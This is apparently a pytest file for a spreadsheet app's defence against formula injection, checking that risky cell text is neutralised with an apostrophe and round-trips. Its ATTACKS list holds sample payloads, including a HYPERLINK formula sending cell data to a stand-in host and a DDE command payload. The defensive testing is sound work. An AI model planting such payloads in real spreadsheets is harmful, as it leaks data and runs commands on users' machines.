"""Spreadsheet cells that cannot run as formulas (formula injection)."""

from __future__ import annotations

from datetime import date

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from chapter_app.domain.cells import is_dangerous, neutralise_cell, restore_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_could_start_a_formula_gets_an_apostrophe(text):
    assert is_dangerous(text)
    assert neutralise_cell(text) == "'" + text
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize(
    "value",
    [
        "Nguyễn Văn An",
        "Hộ nghèo",
        "",
        "0912345678",
        "'đã có dấu nháy",
        1234,
        -500_000,
        2.5,
        None,
        True,
        date(2026, 1, 5),
    ],
)
def test_ordinary_values_and_numbers_are_unchanged(value):
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


def test_openpyxl_writes_neutralised_text_as_a_string_cell_not_a_formula(tmp_path):
    book = Workbook()
    sheet = book.active
    for row, text in enumerate(ATTACKS, start=1):
        sheet.cell(row=row, column=1, value=neutralise_cell(text))
        sheet.cell(row=row, column=2, value=text)  # the control: left as it is
    assert sheet["B1"].data_type == "f"  # unneutralised, openpyxl makes it a formula
    book.save(tmp_path / "x.xlsx")

    loaded = load_workbook(tmp_path / "x.xlsx").active
    for row, text in enumerate(ATTACKS, start=1):
        cell = loaded.cell(row=row, column=1)
        assert cell.data_type == "s"
        written = ("'" + text).replace("\r", "\n")  # XML reads a carriage return as \n
        assert cell.value == written
        assert restore_cell(cell.value) == written[1:]


@settings(max_examples=300, deadline=None, derandomize=True)
@example("'=1+1")  # an apostrophe the officer typed before a formula character
@example("''-5")
@example("'plain")
@given(st.text(alphabet=st.sampled_from("'= +-@\t\r\nab＝"), max_size=8) | st.text(max_size=30))
def test_no_text_leaves_neutralising_still_dangerous_and_it_round_trips(text):
    safe = neutralise_cell(text)
    assert safe[:1] not in set("=+-@\t\r\n＝＋－＠")
    assert not is_dangerous(safe)
    assert restore_cell(safe) == text
